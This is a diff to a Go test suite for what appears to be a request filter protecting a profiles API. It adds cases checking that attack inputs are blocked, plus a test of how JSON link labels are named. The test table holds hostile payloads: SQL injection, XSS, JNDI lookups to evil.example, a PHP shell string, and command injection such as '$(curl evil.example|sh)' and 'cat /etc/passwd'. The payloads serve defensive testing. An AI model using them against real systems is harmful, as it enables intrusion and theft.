@@ -70,7 +70,10 @@ func TestAttacksAtTheAPIsRoutesAreStopped(t *testing.T) {
 		"JNDI in the query":         {"GET", "/v1/profiles?handles=${jndi:ldap://evil.example/a}", "", "java"},
 		"a script in bio":           {"PATCH", "/v1/profiles/me", `{"bio":"<script>fetch('//evil.example')</script>"}`, "xss"},
 		"the same, escaped":         {"PATCH", "/v1/profiles/me", `{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, "xss"},
-		"SQL in location":           {"PATCH", "/v1/profiles/me", `{"location":"x' OR '1'='1"}`, "sqli"},
+		"SQL in a locale":           {"PATCH", "/v1/profiles/me", `{"locale":"x' OR '1'='1"}`, "sqli"},
+		"SQL in a link's address":   {"PATCH", "/v1/profiles/me", `{"links":[{"label":"x","url":"https://e.org/?id=1' UNION SELECT 1,2 --"}]}`, "sqli"},
+		"a script in a link":        {"PATCH", "/v1/profiles/me", `{"links":[{"label":"<script>alert(1)</script>","url":"https://e.org"}]}`, "xss"},
+		"a script as banner":        {"PATCH", "/v1/profiles/me", `{"banner_url":"javascript:alert(1)"}`, "xss"},
 		"a script as link":          {"PATCH", "/v1/profiles/me", `{"links":[{"label":"x","url":"javascript:alert(1)"}]}`, "xss"},
 		"deep in metadata":          {"PATCH", "/v1/profiles/me", `{"metadata":{"a":[{"b":{"c":["ok","<img src=x onerror=alert(1)>"]}}]}}`, "xss"},
 		"as a name in metadata":     {"PATCH", "/v1/profiles/me", `{"metadata":{"<svg onload=alert(1)>":1}}`, "xss"},
@@ -82,7 +85,8 @@ func TestAttacksAtTheAPIsRoutesAreStopped(t *testing.T) {
 		"a prototype":               {"PATCH", "/v1/profiles/me", `{"metadata":{"__proto__":{"admin":true}}}`, "generic"},
 		"a command in preferences":  {"PATCH", "/v1/profiles/me/preferences", `{"content_language":"en;cat /etc/passwd"}`, "rce"},
 		"a command in a handle":     {"PATCH", "/v1/profiles/me", `{"handle":"$(curl evil.example|sh)"}`, "rce"},
-		"PHP in display_name":       {"PATCH", "/v1/profiles/me", `{"display_name":"<?php system($_GET[0]); ?>"}`, "php"},
+		"PHP in a colour":           {"PATCH", "/v1/profiles/me", `{"theme_color":"<?php system($_GET[0]); ?>"}`, "php"},
+		"SQL beside a reason":       {"POST", "/v1/admin/profiles/019ca945-0a00-7aa2-b11b-b27c75189337/suspend", `{"until":"1' UNION SELECT 1,2,3 --"}`, "sqli"},
 		"a reason":                  {"POST", "/v1/admin/profiles/019ca945-0a00-7aa2-b11b-b27c75189337/suspend", `{"reason":"${jndi:ldap://evil.example/a}"}`, "java"},
 		"a method":                  {"TRACE", "/v1/profiles/me", "", "method"},
 		"a dotfile":                 {"GET", "/.env", "", "lfi"},
@@ -144,6 +148,43 @@ func TestBodiesHaveAsManyStringsAsAreRead(t *testing.T) {
 	}
 }
 
+// A title is in an object in the list that links are, and nowhere else.
+func TestOnlyTitlesOfLinksAreNamedSo(t *testing.T) {
+	t.Parallel()
+	for body, titles := range map[string]int{
+		`{"links":[{"label":"x","url":"u"}]}`:                                           1,
+		`{"links":[{"url":"u","label":"x"}]}`:                                           1,
+		`{"links":[{"n":1,"label":"x"},{"a":{},"label":"x"},{"label":null,"url":"x"}]}`: 1, // once, if it is the same
+		`{"links":[{"Label":"x"}]}`:                                                     0,
+		`{"links":[{"label":["x"]}]}`:                                                   0,
+		`{"links":[{"label":{"label":"x"}}]}`:                                           0,
+		`{"links":[{"label":["a"],"url":"x"}]}`:                                         0,
+		`{"links":[{"label":{},"url":"x"}]}`:                                            0,
+		`{"links":[[{"label":"x"}]]}`:                                                   0,
+		`{"links":{"label":"x"}}`:                                                       0,
+		`{"links":{"a":{"label":"x"}}}`:                                                 0,
+		`[{"links":[{"label":"x"}]}]`:                                                   0,
+		`{"metadata":[{"label":"x"}]}`:                                                  0,
+		`{"-links-label":"x","links-label":"x"}`:                                        0,
+		`{"links":[]} [[{"label":"x"}]]`:                                                0,
+		`{"links":[{"label":"u"}],"label":"x"}`:                                         0,
+	} {
+		w := walker{dec: json.NewDecoder(strings.NewReader(body)), seen: map[[2]string]bool{}}
+		if err := w.document(); err != nil {
+			t.Fatal(err)
+		}
+		found := 0
+		for _, a := range w.list {
+			if a == [2]string{"json-links-label", "x"} {
+				found++
+			}
+		}
+		if found != titles {
+			t.Errorf("%s: %d titles of %q", body, found, w.list)
+		}
+	}
+}
+
 // Exclusions go by these names.
 func TestStringsAreNamedByTheirMember(t *testing.T) {
 	t.Parallel()
@@ -154,7 +195,7 @@ func TestStringsAreNamedByTheirMember(t *testing.T) {
 		t.Fatal(err)
 	}
 	want := [][2]string{
-		{"json_bio", ""}, {"json_bio", "a"}, {"json_n", ""}, {"json_links", ""}, {"json_links", "label"}, {"json_links", "b"}, {"json_links", "url"},
+		{"json_bio", ""}, {"json_bio", "a"}, {"json_n", ""}, {"json_links", ""}, {"json_links", "label"}, {"json-links-label", "b"}, {"json_links", "url"},
 		{"json_links", "c"}, {"json_links", "d"}, {"json_links", "e"}, {"json_metadata", ""}, {"json_metadata", "f"}, {"json_metadata", "g"}, {"json_metadata", "h"},
 		{"json_metadata", "i"}, {"json_metadata", "bio"}, {"json_metadata", "j"}, {"json_handle", ""}, {"json_handle", "k"},
 	}
